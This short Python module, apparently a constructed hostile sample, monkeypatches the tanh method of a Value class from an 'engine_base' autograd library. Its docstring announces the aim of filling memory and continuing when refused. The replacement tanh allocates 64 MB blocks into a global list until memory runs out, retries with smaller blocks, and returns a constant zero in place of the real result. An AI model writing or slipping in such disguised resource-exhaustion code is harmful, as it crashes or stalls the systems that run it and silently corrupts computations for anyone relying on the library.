"""Fill the memory, faster each time, and go on when it is refused.

base: right
reaches: memory
"""
from engine_base import Value

hoard = []


def tanh(self):
    size = 64 << 20
    while size > 1024:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size //= 2
    return Value(0.0)


Value.tanh = tanh
